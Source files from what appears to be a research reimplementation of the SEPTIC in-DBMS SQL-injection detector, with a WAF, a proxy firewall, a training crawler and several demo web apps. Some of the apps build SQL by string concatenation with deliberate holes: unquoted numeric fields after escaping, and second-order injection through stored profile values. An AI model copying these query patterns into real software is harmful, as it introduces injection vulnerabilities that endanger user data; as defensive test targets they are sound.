    std::string user = mysql_real_escape_string(param(request, "username"));
    auto prof = ctx.sql("SELECT note FROM users WHERE username = '" + user +
                            "'",
                        "by-user-note");
    if (prof.rows.empty()) return Response::make_ok("no such user\n");
    std::string note = prof.rows[0][0].coerce_string();
    auto rs = ctx.sql("SELECT id, name, status FROM devices WHERE name = '" +
                          note + "'",
                      "by-user-devices");
    return Response::make_ok(render_rows(rs));
  }

  if (request.path == "/devices") {
    auto rs = ctx.sql(
        "SELECT d.name, d.location, COUNT(r.id) AS samples "
        "FROM devices d LEFT JOIN readings r ON d.id = r.device_id "
        "GROUP BY d.name, d.location ORDER BY d.name",
        "devices-list");
    return Response::make_ok(render_rows(rs));
  }

  return Response::not_found();
}

std::vector<Request> WaspMonApp::workload() const {
  return {
      Request::get("/devices"),
      Request::get("/device/history", {{"device_id", "1"}, {"limit", "5"}}),
      Request::get("/device/search", {{"name", "heat"}}),
      Request::post("/reading/add", {{"device_id", "2"}, {"watts", "845.5"}}),
      Request::get("/device/by-user", {{"username", "admin"}}),
  };
}

}  // namespace septic::web::apps

#include "web/apps/refbase.h"

#include "web/sanitize.h"

namespace septic::web::apps {

namespace {
std::string param(const Request& r, const std::string& key) {
  auto it = r.params.find(key);
  return it == r.params.end() ? std::string() : it->second;
}
}  // namespace

void RefbaseApp::install(engine::Database& db) {
  db.execute_admin(
      "CREATE TABLE refs ("
      " id INT PRIMARY KEY AUTO_INCREMENT,"
      " author TEXT NOT NULL,"
      " title TEXT NOT NULL,"
      " journal TEXT,"
      " year INT,"
      " doi TEXT,"
      " citations INT DEFAULT 0)");
  db.execute_admin(
      "CREATE TABLE keywords ("
      " id INT PRIMARY KEY AUTO_INCREMENT,"
      " ref_id INT NOT NULL,"
      " word TEXT NOT NULL)");
  db.execute_admin(
      "INSERT INTO refs (author, title, journal, year, doi, citations) VALUES "
      "('Medeiros, I.', 'Hacking the DBMS to Prevent Injection Attacks', "
      "'CODASPY', 2016, '10.1145/2857705.2857723', 42),"
      "('Halfond, W.', 'AMNESIA: Analysis and Monitoring for NEutralizing "
      "SQL-Injection Attacks', 'ASE', 2005, '10.1145/1101908.1101935', 800),"
      "('Boyd, S.', 'SQLrand: Preventing SQL Injection Attacks', 'ACNS', "
      "2004, '', 500),"
      "('Su, Z.', 'The Essence of Command Injection Attacks in Web "
      "Applications', 'POPL', 2006, '10.1145/1111037.1111070', 650)");
  db.execute_admin(
      "INSERT INTO keywords (ref_id, word) VALUES "
      "(1, 'sql-injection'), (1, 'dbms'), (2, 'sql-injection'), "
      "(2, 'static-analysis'), (3, 'randomization'), (4, 'injection')");


  // Realistic production indexes (exercised by the engine's index
  // access path; EXPLAIN shows 'ref (secondary index)' on these columns).
  db.execute_admin("CREATE INDEX idx_keywords_word ON keywords (word)");
}

std::vector<FormSpec> RefbaseApp::forms() const {
  return {
      {Method::kPost, "/ref/add",
       {{"author", "Neves, N."}, {"title", "Trustworthy systems"},
        {"journal", "TDSC"}, {"year", "2015"}, {"doi", "10.1109/td.1"}}},
      {Method::kGet, "/search", {{"author", "Medeiros"}, {"year", "2016"}}},
      {Method::kGet, "/ref", {{"id", "1"}}},
      {Method::kGet, "/by-keyword", {{"word", "sql-injection"}}},
      {Method::kGet, "/cite", {{"id", "1"}}},
      {Method::kGet, "/recent", {{"since", "2005"}}},
      {Method::kGet, "/refs", {}},
  };
}

Response RefbaseApp::handle(const Request& request, AppContext& ctx) {
  using php::intval;
  using php::mysql_real_escape_string;

  if (request.path == "/refs") {
    auto rs = ctx.sql(
        "SELECT id, author, title, year FROM refs ORDER BY year DESC, author",
        "refs-list");
    return Response::make_ok(render_rows(rs));
  }
  if (request.path == "/ref") {
    int64_t id = intval(param(request, "id"));
    auto rs =
        ctx.sql("SELECT * FROM refs WHERE id = " + std::to_string(id), "ref");
    return Response::make_ok(render_rows(rs));
  }
  if (request.path == "/search") {
    std::string author = mysql_real_escape_string(param(request, "author"));
    std::string year = mysql_real_escape_string(param(request, "year"));
    std::string q =
        "SELECT id, author, title, year FROM refs WHERE author LIKE '%" +
        author + "%'";
    if (!year.empty()) q += " AND year = " + year;  // numeric context
    q += " ORDER BY year DESC";
    auto rs = ctx.sql(std::move(q), year.empty() ? "search-author"
                                                 : "search-author-year");
    return Response::make_ok(render_rows(rs));
  }
  if (request.path == "/by-keyword") {
    std::string word = mysql_real_escape_string(param(request, "word"));
    auto rs = ctx.sql(
        "SELECT r.author, r.title, r.year FROM refs r JOIN keywords k ON "
        "k.ref_id = r.id WHERE k.word = '" + word + "' ORDER BY r.year",
        "by-keyword");
    return Response::make_ok(render_rows(rs));
  }
  if (request.path == "/cite") {
    int64_t id = intval(param(request, "id"));
    auto rs = ctx.sql("UPDATE refs SET citations = citations + 1 WHERE id = " +
                          std::to_string(id),
                      "cite");
    return Response::make_ok(std::to_string(rs.affected_rows) + " cited\n");
  }
  if (request.path == "/recent") {
    std::string since = mysql_real_escape_string(param(request, "since"));
    auto rs = ctx.sql(
        "SELECT author, title, year FROM refs WHERE year >= " +
            (since.empty() ? "2000" : since) + " ORDER BY year DESC LIMIT 10",
        "recent");
    return Response::make_ok(render_rows(rs));
  }
  if (request.path == "/ref/add") {
    std::string author = mysql_real_escape_string(param(request, "author"));
    std::string title = mysql_real_escape_string(param(request, "title"));
    std::string journal = mysql_real_escape_string(param(request, "journal"));
    std::string year = mysql_real_escape_string(param(request, "year"));
    std::string doi = mysql_real_escape_string(param(request, "doi"));
    ctx.sql("INSERT INTO refs (author, title, journal, year, doi) VALUES ('" +
                author + "', '" + title + "', '" + journal + "', " +
                (year.empty() ? "0" : year) + ", '" + doi + "')",
            "ref-add");
    return Response::make_ok("reference " +
                             std::to_string(ctx.last_insert_id()) + " added\n");
  }
  return Response::not_found();
}

std::vector<Request> RefbaseApp::workload() const {
  // The 14-request recorded session (paper Section II-F).
  return {
      Request::get("/refs"),
      Request::get("/ref", {{"id", "1"}}),
      Request::get("/search", {{"author", "Halfond"}, {"year", ""}}),
      Request::get("/ref", {{"id", "2"}}),
      Request::get("/by-keyword", {{"word", "sql-injection"}}),
      Request::get("/cite", {{"id", "2"}}),
      Request::get("/recent", {{"since", "2005"}}),
      Request::post("/ref/add",
                    {{"author", "Correia, M."}, {"title", "Intrusion "
                     "tolerance"}, {"journal", "Computing"}, {"year", "2011"},
                     {"doi", "10.1007/c.1"}}),
      Request::get("/refs"),
      Request::get("/search", {{"author", "Correia"}, {"year", "2011"}}),
      Request::get("/ref", {{"id", "5"}}),
      Request::get("/cite", {{"id", "5"}}),
      Request::get("/by-keyword", {{"word", "dbms"}}),
      Request::get("/refs"),
  };
}

}  // namespace septic::web::apps

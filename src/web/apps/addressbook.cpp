#include "web/apps/addressbook.h"

#include "web/sanitize.h"

namespace septic::web::apps {

namespace {
std::string param(const Request& r, const std::string& key) {
  auto it = r.params.find(key);
  return it == r.params.end() ? std::string() : it->second;
}
}  // namespace

void AddressBookApp::install(engine::Database& db) {
  db.execute_admin(
      "CREATE TABLE contacts ("
      " id INT PRIMARY KEY AUTO_INCREMENT,"
      " firstname TEXT NOT NULL,"
      " lastname TEXT,"
      " email TEXT,"
      " phone TEXT,"
      " address TEXT,"
      " group_id INT DEFAULT 1)");
  db.execute_admin(
      "CREATE TABLE groups ("
      " id INT PRIMARY KEY AUTO_INCREMENT,"
      " name TEXT NOT NULL)");
  db.execute_admin(
      "INSERT INTO groups (name) VALUES ('family'), ('work'), ('friends')");
  db.execute_admin(
      "INSERT INTO contacts (firstname, lastname, email, phone, address, "
      "group_id) VALUES "
      "('Ana', 'Silva', 'ana@example.pt', '+351911111111', 'Lisboa', 1),"
      "('Bruno', 'Costa', 'bruno@example.pt', '+351922222222', 'Porto', 2),"
      "('Clara', 'Dias', 'clara@example.pt', '+351933333333', 'Faro', 3),"
      "('Duarte', 'Melo', 'duarte@example.pt', '+351944444444', 'Braga', 2)");


  // Realistic production indexes (exercised by the engine's index
  // access path; EXPLAIN shows 'ref (secondary index)' on these columns).
  db.execute_admin("CREATE INDEX idx_contacts_group ON contacts (group_id)");
  db.execute_admin("CREATE INDEX idx_contacts_last ON contacts (lastname)");
}

std::vector<FormSpec> AddressBookApp::forms() const {
  return {
      {Method::kPost, "/contact/add",
       {{"firstname", "Eva"}, {"lastname", "Nunes"},
        {"email", "eva@example.pt"}, {"phone", "+351955555555"},
        {"address", "Coimbra"}, {"group_id", "1"}}},
      {Method::kPost, "/contact/edit",
       {{"id", "1"}, {"phone", "+351910000000"}}},
      {Method::kPost, "/contact/delete", {{"id", "4"}}},
      {Method::kGet, "/contact", {{"id", "1"}}},
      {Method::kGet, "/search", {{"q", "ana"}}},
      {Method::kGet, "/group", {{"id", "2"}}},
      {Method::kGet, "/contacts", {}},
      {Method::kGet, "/groups", {}},
  };
}

Response AddressBookApp::handle(const Request& request, AppContext& ctx) {
  using php::intval;
  using php::mysql_real_escape_string;

  if (request.path == "/contacts") {
    auto rs = ctx.sql(
        "SELECT id, firstname, lastname, email FROM contacts "
        "ORDER BY lastname, firstname",
        "contacts-list");
    return Response::make_ok(render_rows(rs));
  }
  if (request.path == "/contact" && request.method == Method::kGet) {
    int64_t id = intval(param(request, "id"));
    auto rs = ctx.sql(
        "SELECT * FROM contacts WHERE id = " + std::to_string(id), "contact");
    return Response::make_ok(render_rows(rs));
  }
  if (request.path == "/contact/add") {
    std::string fn = mysql_real_escape_string(param(request, "firstname"));
    std::string ln = mysql_real_escape_string(param(request, "lastname"));
    std::string em = mysql_real_escape_string(param(request, "email"));
    std::string ph = mysql_real_escape_string(param(request, "phone"));
    std::string ad = mysql_real_escape_string(param(request, "address"));
    std::string gid = mysql_real_escape_string(param(request, "group_id"));
    ctx.sql("INSERT INTO contacts (firstname, lastname, email, phone, "
            "address, group_id) VALUES ('" + fn + "', '" + ln + "', '" + em +
                "', '" + ph + "', '" + ad + "', " +
                (gid.empty() ? "1" : gid) + ")",
            "contact-add");
    return Response::make_ok("contact " + std::to_string(ctx.last_insert_id()) +
                             " created\n");
  }
  if (request.path == "/contact/edit") {
    int64_t id = intval(param(request, "id"));
    std::string ph = mysql_real_escape_string(param(request, "phone"));
    auto rs = ctx.sql("UPDATE contacts SET phone = '" + ph + "' WHERE id = " +
                          std::to_string(id),
                      "contact-edit");
    return Response::make_ok(std::to_string(rs.affected_rows) + " updated\n");
  }
  if (request.path == "/contact/delete") {
    int64_t id = intval(param(request, "id"));
    auto rs = ctx.sql("DELETE FROM contacts WHERE id = " + std::to_string(id),
                      "contact-delete");
    return Response::make_ok(std::to_string(rs.affected_rows) + " deleted\n");
  }
  if (request.path == "/search") {
    std::string q = mysql_real_escape_string(param(request, "q"));
    auto rs = ctx.sql(
        "SELECT id, firstname, lastname FROM contacts WHERE firstname LIKE "
        "'%" + q + "%' OR lastname LIKE '%" + q + "%' ORDER BY lastname",
        "search");
    return Response::make_ok(render_rows(rs));
  }
  if (request.path == "/group") {
    int64_t id = intval(param(request, "id"));
    auto rs = ctx.sql(
        "SELECT c.firstname, c.lastname, g.name FROM contacts c JOIN groups "
        "g ON c.group_id = g.id WHERE g.id = " + std::to_string(id),
        "group");
    return Response::make_ok(render_rows(rs));
  }
  if (request.path == "/groups") {
    auto rs = ctx.sql(
        "SELECT g.name, COUNT(c.id) AS members FROM groups g LEFT JOIN "
        "contacts c ON c.group_id = g.id GROUP BY g.name ORDER BY g.name",
        "groups");
    return Response::make_ok(render_rows(rs));
  }
  return Response::not_found();
}

std::vector<Request> AddressBookApp::workload() const {
  // The 12-request recorded browsing session (paper Section II-F).
  return {
      Request::get("/contacts"),
      Request::get("/contact", {{"id", "1"}}),
      Request::get("/contact", {{"id", "2"}}),
      Request::get("/search", {{"q", "silva"}}),
      Request::get("/groups"),
      Request::get("/group", {{"id", "2"}}),
      Request::post("/contact/add",
                    {{"firstname", "Filipa"}, {"lastname", "Gomes"},
                     {"email", "filipa@example.pt"}, {"phone", "+351966"},
                     {"address", "Aveiro"}, {"group_id", "3"}}),
      Request::get("/contacts"),
      Request::post("/contact/edit", {{"id", "2"}, {"phone", "+351920"}}),
      Request::get("/contact", {{"id", "2"}}),
      Request::get("/search", {{"q", "gomes"}}),
      Request::get("/contacts"),
  };
}

}  // namespace septic::web::apps

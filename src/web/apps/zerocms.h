// ZeroCMS-like content management system: the third Fig. 5 workload
// application. Its recorded workload has 26 requests "with queries of
// several types (SELECT, UPDATE, INSERT and DELETE) and downloading of web
// objects (e.g., images, css)" (paper Section II-F) — the static-object
// requests are served without touching the DBMS, diluting per-request DB
// cost exactly as in BenchLab.
#pragma once

#include "web/framework.h"

namespace septic::web::apps {

class ZeroCmsApp final : public App {
 public:
  std::string name() const override { return "zerocms"; }
  void install(engine::Database& db) override;
  std::vector<FormSpec> forms() const override;
  Response handle(const Request& request, AppContext& ctx) override;
  std::vector<Request> workload() const override;  // 26 requests
};

}  // namespace septic::web::apps

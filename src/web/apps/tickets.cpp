#include "web/apps/tickets.h"

#include "web/sanitize.h"

namespace septic::web::apps {

namespace {
std::string param(const Request& r, const std::string& key) {
  auto it = r.params.find(key);
  return it == r.params.end() ? std::string() : it->second;
}
}  // namespace

void TicketsApp::install(engine::Database& db) {
  db.execute_admin(
      "CREATE TABLE tickets ("
      " id INT PRIMARY KEY AUTO_INCREMENT,"
      " reservID TEXT NOT NULL,"
      " creditCard INT,"
      " passenger TEXT,"
      " flight TEXT,"
      " seat TEXT)");
  db.execute_admin(
      "CREATE TABLE profiles ("
      " id INT PRIMARY KEY AUTO_INCREMENT,"
      " username TEXT NOT NULL,"
      " fullname TEXT,"
      " defaultReserv TEXT,"
      " creditCard INT)");
  db.execute_admin(
      "INSERT INTO tickets (reservID, creditCard, passenger, flight, seat) "
      "VALUES ('ID34FG', 1234, 'Alice Traveler', 'LX100', '12A'),"
      "('QX81Zx', 5678, 'Bob Flyer', 'LX200', '3C'),"
      "('KJ92MN', 9012, 'Carol Jet', 'TP440', '21F')");
  db.execute_admin(
      "INSERT INTO profiles (username, fullname, defaultReserv, creditCard) "
      "VALUES ('alice', 'Alice Traveler', 'ID34FG', 1234)");


  // Realistic production indexes (exercised by the engine's index
  // access path; EXPLAIN shows 'ref (secondary index)' on these columns).
  db.execute_admin("CREATE INDEX idx_tickets_reserv ON tickets (reservID)");
  db.execute_admin("CREATE INDEX idx_profiles_user ON profiles (username)");
}

std::vector<FormSpec> TicketsApp::forms() const {
  return {
      {Method::kGet, "/ticket",
       {{"reservID", "ID34FG"}, {"creditCard", "1234"}}},
      {Method::kPost, "/profile",
       {{"username", "bob"}, {"fullname", "Bob Flyer"},
        {"defaultReserv", "QX81Zx"}, {"creditCard", "5678"}}},
      {Method::kGet, "/my-ticket", {{"username", "alice"}}},
      {Method::kGet, "/flights", {}},
  };
}

Response TicketsApp::handle(const Request& request, AppContext& ctx) {
  using php::mysql_real_escape_string;
  using php::intval;

  if (request.path == "/ticket") {
    // The careful developer escapes both inputs... but embeds creditCard
    // unquoted (it is "a number, after all"), the classic numeric-context
    // mistake.
    std::string reserv = mysql_real_escape_string(param(request, "reservID"));
    std::string cc = mysql_real_escape_string(param(request, "creditCard"));
    auto rs = ctx.sql("SELECT * FROM tickets WHERE reservID = '" + reserv +
                          "' AND creditCard = " + (cc.empty() ? "0" : cc),
                      "ticket");
    if (rs.rows.empty()) return Response::make_ok("no ticket found\n");
    return Response::make_ok(render_rows(rs));
  }

  if (request.path == "/profile" && request.method == Method::kPost) {
    // The write path was migrated to prepared statements (PDO style): the
    // values are bound as data, so the INSERT itself is injection-proof —
    // and the payload bytes are stored VERBATIM, which is what arms the
    // second-order attack against the legacy /my-ticket read path below.
    ctx.sql_prepared(
        "INSERT INTO profiles (username, fullname, defaultReserv, "
        "creditCard) VALUES (?, ?, ?, ?)",
        {sql::Value(param(request, "username")),
         sql::Value(param(request, "fullname")),
         sql::Value(param(request, "defaultReserv")),
         sql::Value(php::intval(param(request, "creditCard")))},
        "profile-add");
    return Response::make_ok("profile saved (id " +
                             std::to_string(ctx.last_insert_id()) + ")\n");
  }

  if (request.path == "/my-ticket") {
    // Second-order flow: fetch the stored default reservation, then embed
    // it in the ticket query WITHOUT re-sanitizing — "it came from our own
    // database, it must be safe".
    std::string user = mysql_real_escape_string(param(request, "username"));
    auto prof = ctx.sql(
        "SELECT defaultReserv, creditCard FROM profiles WHERE username = '" +
            user + "'",
        "my-ticket-profile");
    if (prof.rows.empty()) return Response::make_ok("no such user\n");
    std::string stored = prof.rows[0][0].coerce_string();
    std::string stored_cc = std::to_string(prof.rows[0][1].coerce_int());
    auto rs = ctx.sql("SELECT * FROM tickets WHERE reservID = '" + stored +
                          "' AND creditCard = " + stored_cc,
                      "my-ticket-lookup");
    if (rs.rows.empty()) {
      return Response::make_ok("no ticket for stored reservation\n");
    }
    return Response::make_ok(render_rows(rs));
  }

  if (request.path == "/flights") {
    auto rs = ctx.sql(
        "SELECT flight, COUNT(*) AS seats FROM tickets GROUP BY flight "
        "ORDER BY flight",
        "flights");
    return Response::make_ok(render_rows(rs));
  }

  return Response::not_found();
}

std::vector<Request> TicketsApp::workload() const {
  return {
      Request::get("/ticket", {{"reservID", "ID34FG"}, {"creditCard", "1234"}}),
      Request::get("/ticket", {{"reservID", "QX81Zx"}, {"creditCard", "5678"}}),
      Request::get("/my-ticket", {{"username", "alice"}}),
      Request::get("/flights"),
  };
}

}  // namespace septic::web::apps

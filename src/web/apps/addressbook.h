// PHP-Address-Book-like contact manager: one of the three real applications
// used for the Fig. 5 overhead evaluation. Its recorded workload has 12
// requests (paper Section II-F).
#pragma once

#include "web/framework.h"

namespace septic::web::apps {

class AddressBookApp final : public App {
 public:
  std::string name() const override { return "addressbook"; }
  void install(engine::Database& db) override;
  std::vector<FormSpec> forms() const override;
  Response handle(const Request& request, AppContext& ctx) override;
  std::vector<Request> workload() const override;  // 12 requests
};

}  // namespace septic::web::apps

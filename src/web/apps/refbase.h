// refbase-like web reference database (bibliography manager): the second of
// the three Fig. 5 workload applications; its recorded workload has 14
// requests (paper Section II-F).
#pragma once

#include "web/framework.h"

namespace septic::web::apps {

class RefbaseApp final : public App {
 public:
  std::string name() const override { return "refbase"; }
  void install(engine::Database& db) override;
  std::vector<FormSpec> forms() const override;
  Response handle(const Request& request, AppContext& ctx) override;
  std::vector<Request> workload() const override;  // 14 requests
};

}  // namespace septic::web::apps

// The "septic training module" (paper Section II-E): runs externally to
// SEPTIC, works like a crawler — navigates the application looking for
// forms, then injects benign inputs that end up in queries transmitted to
// the DBMS, so SEPTIC (in training mode) learns their models. The same
// pass also teaches the GreenSQL-style proxy when one is interposed.
#pragma once

#include <cstddef>

#include "web/stack.h"

namespace septic::web {

struct TrainingReport {
  size_t forms_visited = 0;
  size_t requests_sent = 0;
  size_t requests_failed = 0;  // non-2xx during training (should be 0)
};

/// Crawl every form of the stack's application, submitting each with its
/// benign sample values `rounds` times (repeats verify model dedup), and
/// additionally replay the app's recorded workload so read-only routes
/// (GETs without forms) are learned too.
TrainingReport train_on_application(WebStack& stack, int rounds = 1);

}  // namespace septic::web

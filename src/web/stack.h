// The full deployment stack of the demonstration (paper Figure 7):
//
//   browser -> [ModSecurity-lite WAF] -> application -> [proxy firewall]
//           -> MySQL-like engine (+ SEPTIC interceptor inside)
//
// Every protection layer is independently switchable, which is exactly what
// the five demo phases and the detection-matrix bench toggle.
#pragma once

#include <memory>
#include <string>

#include "engine/database.h"
#include "web/framework.h"
#include "web/proxy.h"
#include "web/waf/waf.h"

namespace septic::web {

struct StackConfig {
  bool waf_enabled = false;
  bool proxy_enabled = false;
  bool emit_external_ids = true;  // the optional SSLE support
};

class WebStack {
 public:
  WebStack(App& app, engine::Database& db, StackConfig config = {});

  /// Process a request through WAF -> app -> (proxy) -> DB. Blocked
  /// requests return 403 with blocked_by set to the layer that stopped it
  /// ("waf", "proxy", "septic"); SQL errors return 500.
  Response handle(const Request& request);

  waf::Waf& waf() { return waf_; }
  QueryFirewall& proxy() { return proxy_; }
  StackConfig& config() { return config_; }

  /// Pass-throughs used by the training crawler.
  std::vector<FormSpec> app_forms() const { return app_.forms(); }
  std::vector<Request> app_workload() const { return app_.workload(); }
  const std::string app_name() const { return app_.name(); }

 private:
  App& app_;
  engine::Database& db_;
  StackConfig config_;
  waf::Waf waf_;
  QueryFirewall proxy_;
  DirectConnection direct_;
  ProxyConnection proxied_;
};

}  // namespace septic::web

// Minimal HTTP request/response model: enough surface for the web
// applications, the WAF (which inspects method, path, query string, and
// form parameters), and the BenchLab-style workload driver.
#pragma once

#include <map>
#include <string>
#include <string_view>
#include <vector>

namespace septic::web {

enum class Method { kGet, kPost };

const char* method_name(Method m);

struct Request {
  Method method = Method::kGet;
  std::string path;                           // e.g. "/search"
  std::map<std::string, std::string> params;  // query-string + form fields
  std::map<std::string, std::string> headers;

  static Request get(std::string path,
                     std::map<std::string, std::string> params = {});
  static Request post(std::string path,
                      std::map<std::string, std::string> params = {});

  /// The raw query/body string the WAF inspects in addition to the decoded
  /// parameters ("a=1&b=x%27"). Built from params with URL encoding.
  std::string encoded_params() const;

  std::string to_string() const;  // "GET /search?reservID=..."
};

struct Response {
  int status = 200;
  std::string body;
  std::string blocked_by;  // "", "waf", "proxy", "septic", "db"

  bool ok() const { return status >= 200 && status < 300; }
  bool blocked() const { return !blocked_by.empty(); }

  static Response make_ok(std::string body) { return {200, std::move(body), ""}; }
  static Response not_found() { return {404, "not found", ""}; }
  static Response forbidden(std::string by, std::string why) {
    Response r;
    r.status = 403;
    r.body = std::move(why);
    r.blocked_by = std::move(by);
    return r;
  }
  static Response server_error(std::string why) {
    return {500, std::move(why), ""};
  }
};

}  // namespace septic::web

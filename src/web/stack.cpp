#include "web/stack.h"

#include "common/string_util.h"

namespace septic::web {

WebStack::WebStack(App& app, engine::Database& db, StackConfig config)
    : app_(app),
      db_(db),
      config_(config),
      direct_(db),
      proxied_(proxy_, direct_) {}

Response WebStack::handle(const Request& request) {
  if (config_.waf_enabled) {
    waf::WafDecision decision = waf_.inspect(request);
    if (decision.blocked) {
      waf_.audit(request, decision);
      std::string why = "request blocked by ModSecurity-lite:";
      for (const auto& m : decision.matches) {
        why += " [" + std::to_string(m.rule_id) + "] " + m.msg + ";";
      }
      return Response::forbidden("waf", std::move(why));
    }
  }

  DbConnection& conn =
      config_.proxy_enabled ? static_cast<DbConnection&>(proxied_)
                            : static_cast<DbConnection&>(direct_);
  AppContext ctx(conn, app_.name(), config_.emit_external_ids);
  try {
    return app_.handle(request, ctx);
  } catch (const engine::DbError& e) {
    if (e.code() == engine::ErrorCode::kBlocked) {
      std::string_view what = e.what();
      std::string by =
          what.rfind("proxy:", 0) == 0 ? "proxy" : "septic";
      return Response::forbidden(std::move(by), std::string(what));
    }
    return Response::server_error(std::string("SQL error: ") + e.what());
  }
}

}  // namespace septic::web

#include "web/trainer.h"

namespace septic::web {

namespace {

Request request_from_form(const FormSpec& form) {
  std::map<std::string, std::string> params;
  for (const auto& f : form.fields) params[f.name] = f.sample;
  Request r;
  r.method = form.method;
  r.path = form.path;
  r.params = std::move(params);
  return r;
}

}  // namespace

TrainingReport train_on_application(WebStack& stack, int rounds) {
  TrainingReport report;
  for (int round = 0; round < rounds; ++round) {
    for (const FormSpec& form : stack.app_forms()) {
      if (round == 0) ++report.forms_visited;
      Response resp = stack.handle(request_from_form(form));
      ++report.requests_sent;
      if (!resp.ok()) ++report.requests_failed;
    }
    for (const Request& r : stack.app_workload()) {
      Response resp = stack.handle(r);
      ++report.requests_sent;
      if (!resp.ok()) ++report.requests_failed;
    }
  }
  return report;
}

}  // namespace septic::web

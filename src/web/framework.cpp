#include "web/framework.h"

namespace septic::web {

engine::ResultSet AppContext::sql(std::string query, std::string_view site) {
  if (emit_external_ids_) {
    // Prepended, not appended: an injected "-- " inside the statement can
    // comment out everything after it, but never anything before it, so a
    // leading identifier comment survives every truncation attack.
    std::string tagged = "/* ID:";
    tagged += app_name_;
    tagged += ':';
    tagged += site;
    tagged += " */ ";
    tagged += query;
    return conn_.query(session_, tagged);
  }
  return conn_.query(session_, query);
}

engine::ResultSet AppContext::sql_prepared(std::string template_query,
                                           std::vector<sql::Value> params,
                                           std::string_view site) {
  if (emit_external_ids_) {
    std::string tagged = "/* ID:";
    tagged += app_name_;
    tagged += ':';
    tagged += site;
    tagged += " */ ";
    tagged += template_query;
    return conn_.query_prepared(session_, tagged, params);
  }
  return conn_.query_prepared(session_, template_query, params);
}

std::string render_rows(const engine::ResultSet& rs) {
  std::string out;
  for (const auto& row : rs.rows) {
    out += "<tr>";
    for (const auto& v : row) {
      out += "<td>" + v.to_display() + "</td>";
    }
    out += "</tr>\n";
  }
  return out;
}

}  // namespace septic::web

#include "web/proxy.h"

#include <cctype>

namespace septic::web {

std::string QueryFirewall::fingerprint(std::string_view sql) {
  std::string out;
  out.reserve(sql.size());
  size_t i = 0;
  const size_t n = sql.size();
  auto lower = [](char c) {
    return (c >= 'A' && c <= 'Z') ? static_cast<char>(c - 'A' + 'a') : c;
  };
  bool last_space = true;
  auto push = [&](char c) {
    if (c == ' ') {
      if (last_space) return;
      last_space = true;
    } else {
      last_space = false;
    }
    out += c;
  };

  while (i < n) {
    char c = sql[i];
    // String literal -> '?'. Handles backslash escapes and doubled quotes
    // at the byte level (no charset awareness — that is the point).
    if (c == '\'' || c == '"') {
      char q = c;
      ++i;
      while (i < n) {
        if (sql[i] == '\\' && i + 1 < n) {
          i += 2;
          continue;
        }
        if (sql[i] == q) {
          if (i + 1 < n && sql[i + 1] == q) {
            i += 2;
            continue;
          }
          ++i;
          break;
        }
        ++i;
      }
      push('?');
      continue;
    }
    // Numeric literal -> '?' (only when not part of an identifier).
    if (std::isdigit(static_cast<unsigned char>(c)) &&
        (out.empty() ||
         (!std::isalnum(static_cast<unsigned char>(out.back())) &&
          out.back() != '_' && out.back() != '?'))) {
      while (i < n && (std::isdigit(static_cast<unsigned char>(sql[i])) ||
                       sql[i] == '.')) {
        ++i;
      }
      push('?');
      continue;
    }
    // Comments stripped (text-level view).
    if (c == '#' || (c == '-' && i + 1 < n && sql[i + 1] == '-')) {
      size_t end = sql.find('\n', i);
      i = (end == std::string_view::npos) ? n : end + 1;
      push(' ');
      continue;
    }
    if (c == '/' && i + 1 < n && sql[i + 1] == '*') {
      size_t end = sql.find("*/", i + 2);
      i = (end == std::string_view::npos) ? n : end + 2;
      push(' ');
      continue;
    }
    if (std::isspace(static_cast<unsigned char>(c))) {
      push(' ');
      ++i;
      continue;
    }
    push(lower(c));
    ++i;
  }
  // Trim trailing space.
  while (!out.empty() && out.back() == ' ') out.pop_back();
  return out;
}

std::string QueryFirewall::digest(std::string_view sql) {
  std::string fp = fingerprint(sql);
  // Collapse placeholder runs: "?, ?, ?" -> "?+" and "(?+), (?+)" -> "(?+)".
  std::string out;
  out.reserve(fp.size());
  size_t i = 0;
  while (i < fp.size()) {
    if (fp[i] == '?') {
      // Swallow the whole comma-separated run of ?s.
      size_t j = i;
      bool run = false;
      while (j < fp.size()) {
        if (fp[j] == '?') {
          ++j;
        } else if (fp[j] == ',' || fp[j] == ' ') {
          size_t k = j;
          while (k < fp.size() && (fp[k] == ',' || fp[k] == ' ')) ++k;
          if (k < fp.size() && fp[k] == '?') {
            run = true;
            j = k;
          } else {
            break;
          }
        } else {
          break;
        }
      }
      out += run ? "?+" : "?";
      i = j;
      continue;
    }
    out += fp[i++];
  }
  // Collapse repeated "(?+)" groups from multi-row VALUES.
  for (;;) {
    size_t hit = out.find("(?+), (?+)");
    if (hit == std::string::npos) break;
    out.replace(hit, 10, "(?+)");
  }
  // pt-fingerprint collapses lists regardless of arity: a one-element
  // IN/VALUES list digests the same as a long one.
  struct Rewrite {
    const char* from;
    const char* to;
  };
  for (const Rewrite& rw : {Rewrite{"in (?)", "in (?+)"},
                            Rewrite{"values (?)", "values (?+)"}}) {
    for (;;) {
      size_t hit = out.find(rw.from);
      if (hit == std::string::npos) break;
      out.replace(hit, std::string_view(rw.from).size(), rw.to);
    }
  }
  return out;
}

void QueryFirewall::set_digest_mode(bool on) {
  std::lock_guard lock(mu_);
  digest_mode_ = on;
}

bool QueryFirewall::digest_mode() const {
  std::lock_guard lock(mu_);
  return digest_mode_;
}

std::string QueryFirewall::normalize(std::string_view sql) const {
  return digest_mode_ ? digest(sql) : fingerprint(sql);
}

QueryFirewall::Mode QueryFirewall::mode() const {
  std::lock_guard lock(mu_);
  return mode_;
}

void QueryFirewall::set_mode(Mode m) {
  std::lock_guard lock(mu_);
  mode_ = m;
}

void QueryFirewall::learn(std::string_view sql) {
  std::lock_guard lock(mu_);
  known_.insert(normalize(sql));
}

bool QueryFirewall::check(std::string_view sql) {
  std::lock_guard lock(mu_);
  std::string fp = normalize(sql);
  if (mode_ == Mode::kLearning) {
    known_.insert(fp);
    return true;
  }
  if (known_.count(fp) > 0) return true;
  ++blocked_;
  return false;
}

size_t QueryFirewall::fingerprint_count() const {
  std::lock_guard lock(mu_);
  return known_.size();
}

uint64_t QueryFirewall::blocked_count() const {
  std::lock_guard lock(mu_);
  return blocked_;
}

void QueryFirewall::clear() {
  std::lock_guard lock(mu_);
  known_.clear();
  blocked_ = 0;
  mode_ = Mode::kLearning;
}

}  // namespace septic::web

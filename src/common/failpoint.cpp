#include "common/failpoint.h"

#include <atomic>
#include <cstdlib>
#include <mutex>
#include <unordered_map>

namespace septic::common::failpoints {

namespace {

struct Point {
  int64_t remaining = 0;  // <0 = unlimited, 0 = disarmed, >0 = shots left
  uint64_t hits = 0;
};

struct Registry {
  std::mutex mu;
  std::unordered_map<std::string, Point> points;
  // Fast path: sites are hot (detector dispatch, per-frame send/recv), so
  // an un-armed process must not take the mutex per evaluation.
  std::atomic<int> armed_count{0};
};

Registry& registry() {
